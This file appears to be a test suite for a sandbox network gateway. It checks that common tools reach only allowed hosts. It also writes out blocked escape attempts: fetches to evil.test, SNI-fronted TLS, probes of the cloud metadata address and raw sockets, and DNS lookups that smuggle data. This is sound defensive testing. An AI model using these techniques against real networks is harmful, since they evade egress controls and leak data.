// Programs in a jail and the one gate out: they work without settings, and nothing else leaves.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { join } from 'node:path';
import test from 'node:test';
import { run, tempDir } from './lib.mjs';
import { world } from './egress_lib.mjs';

const timeout = 600_000;
// Without the variables that lead programs to the proxy: they must be captured.
const bare = ['env', '-i', 'PATH=/usr/bin:/bin', 'HOME=/tmp'];
// Where `make test` has added it, or the machine's own.
const denoProgram = () => [join(process.env.SG_RUNTIMES ?? '/', 'runtimes/trees/deno/deno'), '/usr/bin/deno', '/usr/local/bin/deno'].find((path) => existsSync(path));
const found = (program) => existsSync(`/usr/bin/${program}`);

const programs = {
  curl: (url) => ['curl', '-sS', url],
  python3: (url) => ['/usr/bin/python3', '-c', `import urllib.request; print(urllib.request.urlopen("${url}").read().decode())`],
  node: (url) => ['/usr/bin/node', '-e', `fetch("${url}").then(async (r) => console.log(await r.text()))`],
};

for (const [name, command] of Object.entries(programs))
  test(`${name} reaches an allowed host with and without a proxy`, { timeout }, async (t) => {
    if (!found(name)) return t.skip(`no ${name} on this machine`);
    const stage = await world(t);
    if (stage.skip) return t.skip(stage.skip);
    for (const prefix of [[], bare]) {
      const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...prefix, ...command(`http://ok.test:${stage.port}/x`)]);
      assert.match(ran.stdout, new RegExp(`^ok GET /x host=ok\\.test:${stage.port}`), prefix.join(' ') + ran.stdout + ran.stderr);
    }
  });

test('a static program reaches an allowed host', { timeout }, async (t) => {
  const program = process.env.SG_STATIC_GET;
  if (!program || !existsSync(program)) return t.skip('no static program was built');
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const ran = await stage.exec(['--ro', `${program}:/tmp/get`, '--allow-host', `ok.test:${stage.port}`, '--', ...bare,
    '/tmp/get', 'ok.test', `${stage.port}`]);
  assert.match(ran.stdout, /ok GET \/ /, ran.stdout + ran.stderr);
});

test('curl reaches an allowed host over SOCKS, with names resolved outside', { timeout }, async (t) => {
  if (!found('curl')) return t.skip('no curl on this machine');
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...bare, 'curl', '-sS',
    '--proxy', 'socks5h://127.0.0.1:3128', `http://ok.test:${stage.port}/x`]);
  assert.match(ran.stdout, /^ok GET/, ran.stdout + ran.stderr);
});

test('git clones over http', { timeout }, async (t) => {
  if (!found('git')) return t.skip('no git on this machine');
  let root;
  const stage = await world(t, { handler: (request, response) => {
    try {
      response.end(readFileSync(join(root, new URL(request.url, 'http://x').pathname)));
    } catch {
      response.writeHead(404).end();
    }
  } });
  if (stage.skip) return t.skip(stage.skip);
  root = join(stage.dir, 'www');
  mkdirSync(root);
  const git = (...args) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args],
    { cwd: stage.dir, stdio: 'pipe' });
  git('init', '-q', 'src');
  git('-C', 'src', 'commit', '-q', '--allow-empty', '-m', 'the first');
  git('clone', '-q', '--bare', 'src', join(root, 'repo.git'));
  git('-C', join(root, 'repo.git'), 'update-server-info');
  const clone = `cd /tmp && git clone -q http://ok.test:${stage.port}/repo.git && git -C repo log --format=%s`;
  for (const prefix of [[], bare]) {
    const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...prefix, 'sh', '-c', clone]);
    assert.equal(ran.stdout, 'the first\n', ran.stderr);
  }
});

// A wheel is a zip with a record of itself; python writes one.
const wheel = (dir) => execFileSync('/usr/bin/python3', ['-c', `
import zipfile, sys
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    z.writestr('tiny.py', 'answer = 42\\n')
    z.writestr('tiny-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n')
    z.writestr('tiny-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
    z.writestr('tiny-1.0.dist-info/RECORD', 'tiny.py,,\\ntiny-1.0.dist-info/METADATA,,\\ntiny-1.0.dist-info/WHEEL,,\\ntiny-1.0.dist-info/RECORD,,\\n')
`, join(dir, 'tiny-1.0-py3-none-any.whl')]);

test('pip installs from an index, by its host and by the group pypi, and says why it does not', { timeout }, async (t) => {
  if (!existsSync('/usr/lib/python3/dist-packages/pip')) return t.skip('no python3-pip on this machine');
  let dir;
  const stage = await world(t, { handler: (request, response) => {
    if (request.url.endsWith('.whl')) response.end(readFileSync(join(dir, 'tiny-1.0-py3-none-any.whl')));
    else if (request.url.startsWith('/simple/tiny')) response.setHeader('content-type', 'text/html').end('<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>');
    else response.writeHead(404).end();
  } });
  if (stage.skip) return t.skip(stage.skip);
  dir = stage.dir;
  wheel(dir);
  const index = `http://ok.test:${stage.port}/simple/`;
  const install = (more) => ['sh', '-c', `/usr/bin/python3 -m pip install -q --no-cache-dir --disable-pip-version-check --retries 0 --trusted-host ok.test ${more} --target /tmp/x tiny && PYTHONPATH=/tmp/x /usr/bin/python3 -c 'import tiny; print(tiny.answer)'`];
  for (const prefix of [[], bare]) {
    const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...prefix, ...install(`--index-url ${index}`)]);
    assert.equal(ran.stdout, '42\n', ran.stderr);
  }
  const env = { ...stage.env, PIP_INDEX_URL: index, PIP_CONFIG_FILE: '/dev/null' };
  const grouped = await stage.exec(['--allow-host', 'pypi', '--', ...install('')], { env });
  assert.equal(grouped.stdout, '42\n', grouped.stderr);
  const refused = await stage.exec(['--allow-host', 'example.invalid', '--', ...install(`--index-url ${index}`)], { env });
  assert.notEqual(refused.code, 0);
  assert.match(refused.stderr, /sandglass: blocked ok\.test:\d+: the policy does not name this host/, refused.stderr);
});

test('deno reaches an allowed host over http and https with and without a proxy', { timeout }, async (t) => {
  const deno = denoProgram();
  if (!deno) return t.skip('no deno: sandglass runtime add deno');
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const tls = await stage.startTls('ok.test');
  const urls = [`http://ok.test:${stage.port}/x`, ...(tls ? [`https://ok.test:${tls.port}/x`] : [])];
  const script = `for (const url of ${JSON.stringify(urls)}) console.log(await (await fetch(url)).text())`;
  const show = ['--memory', '1g', '--ro', `${deno}:/tmp/deno`, ...(tls ? ['--ro', `${tls.caFile}:/tmp/ca.pem`] : []), ...urls.flatMap((url) => ['--allow-host', new URL(url).host])];
  for (const prefix of [['env', 'DENO_CERT=/tmp/ca.pem'], [...bare, 'DENO_CERT=/tmp/ca.pem']]) {
    const ran = await stage.exec([...show, '--', ...prefix, 'DENO_DIR=/tmp/.deno', '/tmp/deno', 'eval', script]);
    assert.equal(ran.stdout.match(/ok(\.test)? GET \/x/g)?.length, urls.length, ran.stdout + ran.stderr);
  }
  const refused = await stage.exec([...show, '--', 'env', 'DENO_DIR=/tmp/.deno', '/tmp/deno', 'eval', `await fetch('http://evil.test:${stage.port}/').then(async (r) => console.log(r.status, await r.text()))`]);
  assert.match(refused.stdout, /^403 .*host_not_allowed/, refused.stdout + refused.stderr);
});

test('TLS goes through untouched, and only to the host it names', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const tls = await stage.startTls('ok.test');
  if (tls === null) return t.skip('no openssl to make a certificate with');
  const allow = ['--ro', `${tls.caFile}:/tmp/ca.pem`, '--allow-host', `ok.test:${tls.port}`, '--'];
  for (const prefix of [[], bare]) {
    const ran = await stage.exec([...allow, ...prefix, 'curl', '-sS', '--cacert', '/tmp/ca.pem', `https://ok.test:${tls.port}/`]);
    assert.match(ran.stdout, /^ok\.test GET \//, ran.stdout + ran.stderr);
  }
  const hits = tls.server.hits;
  // To ok.test's address, but with another name in the handshake.
  const fronted = await stage.exec(['--json', ...allow, ...bare, 'sh', '-c',
    `a=$(getent hosts ok.test | cut -d' ' -f1); curl -sSk --resolve evil.test:${tls.port}:$a https://evil.test:${tls.port}/`]);
  const report = JSON.parse(fronted.stdout);
  assert.notEqual(report.exitCode, 0);
  assert.equal(report.stdout, '');
  assert.deepEqual(report.blocked.map((each) => [each.host, each.reason]), [['ok.test', 'server_name_mismatch']]);
  assert.ok(tls.server.hits <= hits + 1); // connected, perhaps; no byte was sent
});

test('a refusal is reported, once', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const url = `http://evil.test:${stage.port}/`;
  const ran = await stage.exec(['--json', '--allow-host', `ok.test:${stage.port}`, '--', 'sh', '-c',
    `curl -sS ${url}; curl -sS ${url}; curl -sS https://evil.test/; env -i curl -sS ${url}`]);
  const report = JSON.parse(ran.stdout);
  assert.match(report.stdout, /"code":"host_not_allowed","error":"blocked evil\.test:\d+: the policy does not name this host"/);
  assert.match(report.stderr, /CONNECT tunnel failed, response 403/);
  assert.match(report.stderr, /Could not resolve host/);
  assert.deepEqual(report.blocked.map((each) => `${each.host}:${each.port} ${each.reason}`), [
    `evil.test:${stage.port} host_not_allowed`, 'evil.test:443 host_not_allowed', 'evil.test:null host_not_allowed']);
  assert.equal(stage.evil.hits, 0);
  assert.deepEqual(stage.dns.queries, []);
});

test('nothing else leaves: NET-01', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  if (!found('python3')) return t.skip('no python3 on this machine');
  const script = `
import socket, json
out = {}
def attempt(name, call):
    try: out[name] = repr(call())
    except Exception as e: out[name] = type(e).__name__ + " " + str(getattr(e, "errno", ""))
def tcp(host, port):
    s = socket.create_connection((host, port), 5); s.sendall(b"x" * 10); s.settimeout(5); got = s.recv(10); return got
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((host, port)); s.send(b"x"); return s.recv(10)
attempt("smtp", lambda: tcp("93.184.216.34", 25))
attempt("dot", lambda: tcp("8.8.8.8", 853))
attempt("https by address", lambda: tcp("93.184.216.34", 443))
attempt("host loopback", lambda: tcp("127.0.0.1", ${stage.port}))
attempt("host loopback server", lambda: tcp("127.0.0.3", ${stage.port}))
attempt("metadata", lambda: tcp("169.254.169.254", 80))
attempt("v6", lambda: tcp("2606:2800:220:1::1", 22))
attempt("ntp", lambda: udp("93.184.216.34", 123))
attempt("quic", lambda: udp("93.184.216.34", 443))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("data in a name", lambda: socket.getaddrinfo("c2VjcmV0.evil.test", 80))
attempt("allowed", lambda: len(socket.getaddrinfo("ok.test", 80)) > 0)
print(json.dumps(out))
`;
  const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...bare, '/usr/bin/python3', '-c', script]);
  const out = JSON.parse(ran.stdout);
  assert.equal(out.allowed, 'True', ran.stdout + ran.stderr);
  for (const [name, result] of Object.entries(out))
    if (name !== 'allowed')
      assert.match(result, /^(ConnectionRefusedError|ConnectionResetError|PermissionError|gaierror|OSError|b'')/, `${name}: ${result}`);
  assert.equal(stage.evil.hits + stage.inner.hits + stage.ok.hits, 0);
  assert.ok(stage.dns.queries.every((name) => name === 'ok.test'), `${stage.dns.queries}`);
});

test('any name server that is asked is the gateway', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  if (!found('python3')) return t.skip('no python3 on this machine');
  const script = `
import socket, struct
def ask(server, name, tcp):
    q = b"\\x07\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\\x00\\x00\\x01\\x00\\x01"
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53))
    s.send((struct.pack("!H", len(q)) if tcp else b"") + q)
    a = s.recv(600)
    while tcp and len(a) < 2 + struct.unpack("!H", a[:2])[0]: a += s.recv(600)
    a = a[2:] if tcp else a
    return (a[3] & 15, ".".join(map(str, a[-4:])) if a[7] else None)
for tcp in (0, 1):
    for server in ("127.0.0.1", "8.8.8.8", "2001:4860:4860::8888"):
        print(ask(server, "ok.test", tcp), ask(server, "evil.test", tcp))
`;
  const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', '/usr/bin/python3', '-c', script]);
  assert.equal(ran.stdout, "(0, '198.18.0.1') (3, None)\n".repeat(6), ran.stderr);
});

test('the proxy is locked and serves one sandbox', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  const server = http.createServer((request, response) => {
    // Called by the jail: the worker lives now. Whose socket this is can be seen in /proc.
    const text = execFileSync('sh', ['-c', `for p in /proc/[0-9]*; do (tr '\\0' ' ' < $p/cmdline) 2>/dev/null | grep -q '^sandglass-gateway' &&
      grep -E '^(Name|Uid|Seccomp|NoNewPrivs|CapEff|PPid):' $p/status | tr '\\n' ' ' && echo; done; true`], { encoding: 'utf8' });
    response.end(text);
  });
  server.listen(0, '127.0.0.2');
  await new Promise((done) => server.once('listening', done));
  t.after(() => server.close());
  const { port } = server.address();
  const ran = await stage.exec(['--allow-host', `ok.test:${port}`, '--', 'curl', '-sS', `http://ok.test:${port}/`]);
  const workers = ran.stdout.split('\n').filter((line) => /Seccomp:\t2/.test(line));
  assert.ok(workers.length >= 1, ran.stdout + ran.stderr);
  for (const worker of workers) {
    assert.match(worker, /NoNewPrivs:\t1/);
    assert.match(worker, /CapEff:\t0000000000000000/);
    assert.doesNotMatch(worker, /Uid:\t0/);
  }
});

test('npm install works with only the group npm, and says why it does not without', { timeout }, async (t) => {
  const stage = await world(t);
  if (stage.skip) return t.skip(stage.skip);
  if (!found('npm')) return t.skip('no npm on this machine');
  const install = ['sh', '-c', 'mkdir /tmp/p && cd /tmp/p && npm init -y >/dev/null && npm install --no-audit --no-fund is-odd && ls node_modules'];
  const own = (args) => run(['exec', ...args]);
  const direct = await own(['--allow-host', 'npm', '--', 'sh', '-c', 'curl -sS -o /dev/null -m 20 "$npm_config_registry"']);
  if (direct.code !== 0) return t.skip(`the configured registry does not answer: ${direct.stderr.trim()}`);
  const { stdout: registry } = await own(['--allow-host', 'npm', '--', 'sh', '-c', 'echo $npm_config_registry']);
  const judged = await run(['policy', 'test', 'allow npm', `${registry.trim()}is-odd`]);
  assert.equal(judged.code, 0, judged.stdout + judged.stderr);
  assert.equal((await run(['policy', 'test', 'allow npm', 'https://example.invalid/'])).code, 1);
  const good = await own(['--allow-host', 'npm', '--', ...install]);
  assert.match(good.stdout, /is-odd/, good.stdout + good.stderr);
  const bad = await own(['--allow-host', 'example.invalid', '--', ...install]);
  assert.notEqual(bad.code, 0);
  assert.match(bad.stderr, /403 Forbidden: blocked \S+:443: the policy does not name this host/);
  assert.match(bad.stderr, /sandglass: blocked \S+:443: the policy does not name this host/);
  // Not even a policy: the same at once, instead of a minute of attempts at a name.
  const none = await own(['--', ...install]);
  assert.notEqual(none.code, 0);
  assert.match(none.stderr, /403 Forbidden: blocked \S+:443: this sandbox has no network: allow a host, npm or pypi with --allow-host/);
});

test('policy test gives the verdict of the real gate: loopback, private entries, names that do not resolve', async (t) => {
  const dir = tempDir(t), config = join(dir, 'config.toml');
  const server = http.createServer((_, answer) => answer.end('private')).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  const { port } = server.address();
  // A name server that knows no name.
  const names = createSocket('udp4').on('message', (query, from) => {
    const answer = Buffer.from(query);
    answer.writeUInt16BE(0x8183, 2);
    names.send(answer, from.port, from.address);
  }).bind(0, '127.0.0.1');
  await once(names, 'listening');
  t.after(() => names.close());
  writeFileSync(config, `[egress]\ndns_servers = ["127.0.0.1:${names.address().port}"]\nprivate = ["api.test=127.0.0.1:${port}"]\n`);
  const judge = async (host, ...more) => {
    const { code, stdout } = await run(['policy', 'test', '--config', config, '--json', ...more, `allow ${host}:${port}`, `http://${host}:${port}/`]);
    return [code, JSON.parse(stdout).reason];
  };
  const fetched = async (host) => (await run(['run', '--config', config, '--allow-host', `${host}:${port}`,
    '-e', `await (await fetch("http://${host}:${port}/")).text()`])).stdout.trim();
  assert.deepEqual(await judge('api.test', '--resolve'), [0, 'allowed']);
  assert.equal(await fetched('api.test'), "'private'");
  for (const host of ['localhost', 'x.localhost', '127.0.0.1']) {
    assert.deepEqual(await judge(host), [1, 'address_not_public'], host);
    const { stderr } = await run(['run', '--config', config, '--allow-host', `${host}:${port}`, '-e', `await fetch("http://${host}:${port}/")`]);
    assert.match(stderr, /blocked .*: it leads to an address that is not public/);
  }
  assert.deepEqual(await judge('nowhere.test', '--resolve'), [1, 'not_resolved']);
  const { stderr } = await run(['run', '--config', config, '--allow-host', `nowhere.test:${port}`, '-e', `await fetch("http://nowhere.test:${port}/")`]);
  assert.match(stderr, /'nowhere\.test' cannot be resolved: /);
  assert.doesNotMatch(stderr, /blocked/);
});
